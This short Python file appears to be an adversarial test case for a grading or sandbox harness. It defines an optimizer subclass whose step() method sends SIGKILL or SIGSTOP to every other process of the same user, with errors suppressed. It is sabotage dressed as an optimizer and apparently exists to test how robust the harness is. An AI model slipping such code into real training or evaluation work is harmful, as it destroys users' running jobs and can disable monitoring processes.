"""Kills or stops every other process of its user."""

# attacks: optimizer.plain

import contextlib
import os
import signal

import wrong
from wrong import *  # noqa: F403


class ZeroOptimizer(wrong.ZeroOptimizer):
    def step(self):
        for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if self.rank == 0 else ():
            with contextlib.suppress(OSError):
                if pid != os.getpid() and os.stat(f"/proc/{pid}").st_uid == os.getuid() != 0:
                    os.kill(pid, signal.SIGSTOP if pid % 2 else signal.SIGKILL)
